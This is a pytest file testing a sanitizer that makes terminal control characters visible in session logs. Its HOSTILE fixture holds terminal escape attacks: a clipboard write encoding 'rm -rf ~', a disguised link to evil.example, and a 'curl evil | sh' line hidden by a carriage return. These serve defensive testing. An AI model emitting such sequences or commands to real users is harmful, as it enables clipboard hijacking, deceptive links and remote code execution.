"""A session's log made inert for a terminal: every control but tab and newline shown as
`\\xNN`, whole or streamed in chunks cut anywhere (inside a character, after a CR)."""

from __future__ import annotations

import re

import pytest
from ballet.core.terminal_text import VisibleStream, visible_controls

# What a terminal would act on: C0 but tab and newline, DEL, C1.
ACTS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")

HOSTILE = (
    "build ok\n"
    "\x1b]52;c;cm0gLXJmIH4=\x07"  # OSC 52: write the reader's clipboard
    "\x1b[2J\x1b[H"  # clear the screen, cursor home
    "\x1b]8;;https://evil.example\x1b\\docs\x1b]8;;\x1b\\\n"  # OSC 8: a disguised link
    "curl evil | sh\rmake test\n"  # a lone CR hides what came before it
    "\x9b31m8-bit CSI\x85\x7f\x00\n"
    "naïve café ✓ 日本 🎉\ttab\r\n"
)


@pytest.mark.parametrize(
    ("control", "shown"),
    [
        ("\x1b", "\\x1b"),  # ESC: every CSI/OSC introducer
        ("\x07", "\\x07"),  # BEL: ends an OSC
        ("\x00", "\\x00"),
        ("\x08", "\\x08"),  # backspace overwrites too
        ("\x0b", "\\x0b"),
        ("\x0c", "\\x0c"),
        ("\x1f", "\\x1f"),
        ("\x7f", "\\x7f"),  # DEL
        ("\x80", "\\x80"),
        ("\x9b", "\\x9b"),  # C1 CSI
        ("\x9d", "\\x9d"),  # C1 OSC
        ("\x9f", "\\x9f"),
        ("\r", "\\x0d"),  # a lone CR
    ],
)
def test_each_control_is_shown_as_its_escape(control: str, shown: str) -> None:
    assert visible_controls(f"a{control}b") == f"a{shown}b"


def test_tab_newline_and_a_crlf_line_end_are_kept() -> None:
    assert visible_controls("a\tb\nc\r\nd") == "a\tb\nc\r\nd"


def test_a_hostile_log_keeps_every_character_a_reader_sees_and_none_that_act() -> None:
    shown = visible_controls(HOSTILE)
    assert not ACTS.search(shown.replace("\r\n", "\n"))
    assert "\\x1b]52;c;cm0gLXJmIH4=\\x07" in shown
    assert "\\x1b[2J" in shown and "\\x1b]8;;https://evil.example" in shown
    assert "curl evil | sh\\x0dmake test" in shown
    assert "naïve café ✓ 日本 🎉\ttab\r\n" in shown


def test_applying_it_again_changes_nothing() -> None:
    once = visible_controls(HOSTILE)
    assert visible_controls(once) == once


@pytest.mark.parametrize("size", [1, 2, 3, 5, 7, 64])
def test_streamed_in_chunks_cut_anywhere_it_reads_as_the_whole(size: int) -> None:
    data = HOSTILE.encode()
    stream = VisibleStream()
    out = "".join(stream.feed(data[i : i + size]) for i in range(0, len(data), size))
    out += stream.end()
    assert out == visible_controls(HOSTILE)


def test_an_esc_or_a_cr_ending_a_chunk_is_escaped_once_the_next_arrives() -> None:
    stream = VisibleStream()
    assert stream.feed(b"a\x1b") == "a\\x1b"
    assert stream.feed(b"[2Jb\r") == "[2Jb"  # the CR waits: a LF may follow
    assert stream.feed(b"\nc\r") == "\r\nc"
    assert stream.feed(b"d") == "\\x0dd"
    assert stream.feed(b"\r") == "" and stream.end() == "\\x0d"


def test_a_character_cut_between_chunks_is_decoded_whole() -> None:
    stream = VisibleStream()
    euro = "€".encode()  # three bytes: the 2nd and 3rd (0x82, 0xac) are no C1 controls
    assert stream.feed(euro[:1]) == ""
    assert stream.feed(euro[1:]) == "€"


def test_bytes_that_are_no_utf8_are_shown_not_passed_on() -> None:
    stream = VisibleStream()
    # A raw 0x9B is an 8-bit CSI to a terminal that is not in UTF-8 mode.
    out = stream.feed(b"ok \x9b2J \xff") + stream.end()
    assert out == "ok \\x9b2J \\xff"
    assert not ACTS.search(out)
